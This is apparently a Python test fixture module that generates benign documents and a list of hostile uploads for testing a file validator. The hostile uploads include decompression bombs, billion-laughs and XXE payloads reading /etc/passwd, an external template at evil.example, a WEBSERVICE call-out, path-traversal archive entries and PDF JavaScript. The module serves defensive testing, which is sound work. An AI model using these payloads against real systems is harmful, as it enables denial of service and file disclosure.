"""Files that the tests make themselves: good ones of each kind, and the hostile ones of TRUST S6. Nothing comes from outside."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from functools import cache

import pikepdf
from docx import Document
from PIL import Image

WORD = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
BLOCK = 1_000_000


def office(parts: Mapping[str, bytes], kind: bytes = EXCEL) -> bytes:
    """Return a zip that says of itself that it is a Word or Excel file."""
    types = b'<Types><Override PartName="/x" ContentType="' + kind + b'"/></Types>'
    return zipped({"[Content_Types].xml": types, **parts})


def zipped(parts: Mapping[str, bytes]) -> bytes:
    """Return a zip of these parts."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return file.getvalue()


@cache
def word() -> bytes:
    """Return a real Word document."""
    document = Document()
    document.add_paragraph("Kumppanin vakuutus")
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()


@cache
def excel() -> bytes:
    """Return a real Excel workbook with a formula of its own."""
    import xlsxwriter

    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, 12)
        sheet.write_formula(0, 1, "=A1*2")
    return file.getvalue()


def odt() -> bytes:
    """Return an OpenDocument text."""
    return zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office:document-content/>"})


def pdf(*, change=None, **options) -> bytes:
    """Return a PDF of one page; `change` gets it before it is saved."""
    file = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        if change:
            change(made)
        made.save(file, **options)
    return file.getvalue()


def picture(kind: str = "JPEG", size: tuple[int, int] = (40, 30), **options) -> bytes:
    """Return a picture: red above, blue below."""
    made = Image.new("RGB", size, "blue")
    made.paste("red", (0, 0, size[0], size[1] // 2))
    file = io.BytesIO()
    made.save(file, kind, **options)
    return file.getvalue()


def phone_picture(size: tuple[int, int] = (4032, 3024)) -> bytes:
    """Return what a phone sends: lying on its side, with the place and the camera's name."""
    exif = Image.Exif()
    exif[0x0112] = 6  # Turn it a quarter to the right.
    exif[0x0110] = "Phone of Liisa"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (60.0, 10.0, 15.0)
    return picture(size=size, exif=exif.tobytes())


def png_chunk(name: bytes, content: bytes) -> bytes:
    """Return one chunk of a PNG."""
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


@cache
def deflated_zeros() -> bytes:
    """Return 400 MB of zeros in 400 KB: one flushed block, repeated, so that no test waits for the packing."""
    machine = zlib.compressobj(9, wbits=-15)
    block = machine.compress(bytes(BLOCK)) + machine.flush(zlib.Z_FULL_FLUSH)
    return b"\x78\xda" + block * 400 + machine.flush()


def png_bomb(side: int) -> bytes:
    """Return a PNG of a few bytes that says it is `side` x `side` pixels large."""
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", deflated_zeros()) + png_chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """Return a small PNG whose comment unpacks to 400 MB."""
    whole = picture("PNG")
    comment = png_chunk(b"zTXt", b"Comment\0\0" + deflated_zeros())
    return whole[:33] + comment + whole[33:]


def pdf_with_stream(content: bytes, filters: list[str]) -> bytes:
    """Return a PDF with one stream, packed already."""

    def put(made: pikepdf.Pdf) -> None:
        stream = made.make_stream(b"")
        stream.write(content, filter=pikepdf.Array([pikepdf.Name(name) for name in filters]))
        made.Root.Extra = stream

    # Otherwise what is packed twice would be packed once when it is saved.
    return pdf(change=put, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def pdf_with(**root) -> bytes:
    """Return a PDF whose catalogue has these entries."""

    def put(made: pikepdf.Pdf) -> None:
        for name, value in root.items():
            made.Root[f"/{name}"] = value

    return pdf(change=put)


def pdf_of_many_pages() -> bytes:
    """Return a PDF of a few hundred bytes whose page tree says ten, eight times over: a hundred million pages."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>"]
    for level in range(8):
        kids = b" ".join([b"%d 0 R" % (level + 3)] * 10)
        objects.append(b"<</Type/Pages/Count 10/Kids[" + kids + b"]>>")
    objects.append(b"<</Type/Page/MediaBox[0 0 9 9]>>")
    content = b"%PDF-1.4\n"
    places = []
    for number, one in enumerate(objects, start=1):
        places.append(len(content))
        content += b"%d 0 obj" % number + one + b"endobj\n"
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    content += b"".join(b"%010d 00000 n \n" % place for place in places)
    return content + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)


def zip_bomb() -> bytes:
    """Return an Excel file whose sheet unpacks to 150 MB."""
    file = io.BytesIO(office({}))
    with (
        zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("xl/worksheets/sheet1.xml", "w") as part,
    ):
        part.write(b"<sheet>")
        for _ in range(150):
            part.write(b" " * BLOCK)
        part.write(b"</sheet>")
    return file.getvalue()


def overlapping_zip() -> bytes:
    """Return an Excel file whose list names one part a thousand times."""
    whole = office({"xl/worksheets/sheet1.xml": b" " * 1_000_000})
    end = whole.rfind(b"PK\x05\x06")
    start = int.from_bytes(whole[end + 16 : end + 20], "little")
    entries = whole[start:end]
    last = entries[entries.rfind(b"PK\x01\x02") :]
    more = b"".join(last.replace(b"sheet1", b"she%03d" % number) for number in range(999))
    size = len(entries) + len(more)
    return whole[:end] + more + whole[end : end + 8] + struct.pack("<HHII", 1001, 1001, size, start) + b"\0\0"


BILLION_LAUGHS = (
    b'<!DOCTYPE l [<!ENTITY a "ha">' + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)  # fmt: skip
READS_FILE = b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
OUTSIDE = (
    b'<Relationships><Relationship Id="1" TargetMode="External" Target="https://evil.example/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
LINK = OUTSIDE.replace(b"attachedTemplate", b"hyperlink")
SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))

GOOD = {
    "lausunto.pdf": pdf, "sivu.jpg": picture, "kaavio.png": lambda: picture("PNG"), "vakuutus.docx": word,
    "budjetti.xlsx": excel, "kirje.odt": odt, "rivit.csv": lambda: "nimi;määrä\nÅsa;-5\n".encode(),
    "muistio.txt": lambda: b"- yksi\n- kaksi\n", "skannattu": pdf,
    "linkki.docx": lambda: office({"word/document.xml": b"<w/>", "word/_rels/document.xml.rels": LINK}, WORD),
}  # fmt: skip

# name of the file -> (how it is made, why it is refused); the name of a case is that of its file.
HOSTILE = {
    "empty.pdf": (lambda: b"", "empty"),
    "program.pdf": (lambda: b"MZ\x90\0" + bytes(100), "name_differs"),
    "program.exe": (lambda: b"MZ\x90\0" + bytes(100), "wrong_type"),
    "page.pdf.exe": (pdf, "name_differs"),
    "page.csv": (lambda: b"<!DOCTYPE html><script>alert(1)</script>", "name_differs"),
    "page.html": (lambda: b"<html><script>alert(1)</script>", "wrong_type"),
    "drawing.svg": (lambda: b"<svg onload='alert(1)'/>", "wrong_type"),
    "bytes.txt": (lambda: bytes(range(32)), "wrong_type"),
    "picture.heic": (lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(50), "heic"),
    "old.doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
    "archive.zip": (lambda: zipped({"a.txt": b"a"}), "wrong_type"),
    "cut.docx": (lambda: word()[:-400], "damaged"),
    "cut.jpg": (lambda: picture(size=(400, 300))[:900], "damaged"),
    "cut.pdf": (lambda: pdf()[:150], "damaged"),
    "macros.xlsm": (excel, "macros"),
    "macros.docx": (lambda: office({"word/vbaProject.bin": b"x"}, WORD), "macros"),
    "macros.odt": (lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "Basic/a.xml": b"<a/>"}), "macros"),
    "template.docx": (lambda: office({"word/_rels/settings.xml.rels": OUTSIDE}, WORD), "outside"),
    "links.xlsx": (lambda: office({"xl/externalLinks/externalLink1.xml": b"<ddeLink/>"}), "outside"),
    "call.xlsx": (lambda: office({"xl/worksheets/sheet1.xml": b'<f>_xlfn.WEBSERVICE("http://evil")</f>'}), "outside"),
    "enclosed.docx": (lambda: office({"word/embeddings/oleObject1.bin": b"MZ"}, WORD), "enclosed_files"),
    "enclosed.pdf": (lambda: pdf_with(Names=pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary())), "enclosed_files"),
    "script.pdf": (lambda: pdf_with(OpenAction=SCRIPT), "programs"),
    "laughs.docx": (lambda: office({"word/document.xml": BILLION_LAUGHS}, WORD), "entities"),
    "reads.xlsx": (lambda: office({"xl/sharedStrings.xml": READS_FILE}), "entities"),
    "reads16.odt": (
        lambda: zipped({
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + READS_FILE.decode()).encode("utf-16"),
        }), "entities",
    ),
    "path.docx": (lambda: office({"../../../../etc/cron.d/x": b"x"}, WORD), "path_names"),
    "path.xlsx": (lambda: office({"/etc/passwd": b"x"}), "path_names"),
    "password.pdf": (lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "encrypted"),
    "joined.pdf": (lambda: pdf() + zipped({"a": b"a"}), "two_files"),
    "joined.docx": (lambda: b"#!/bin/sh\n" + word(), "name_differs"),
    "joined.xlsx": (lambda: excel() + b"<script>alert(1)</script>", "two_files"),
    "bomb.xlsx": (zip_bomb, "bomb"),
    "overlap.xlsx": (overlapping_zip, "bomb"),
    "bomb.png": (lambda: png_bomb(30_000), "too_many_pixels"),
    "wide.jpg": (lambda: picture(size=(40, 30)).replace(b"\0\x1e\0\x28", b"\xff\xf0\xff\xf0"), "too_many_pixels"),
    "comment.png": (png_text_bomb, "damaged"),
    "bomb.pdf": (lambda: pdf_with_stream(deflated_zeros(), ["/FlateDecode"]), "bomb"),
    "deep.pdf": (lambda: pdf_with_stream(zlib.compress(deflated_zeros()), ["/FlateDecode", "/FlateDecode"]), "bomb"),
    "pages.pdf": (pdf_of_many_pages, "damaged"),
}  # fmt: skip
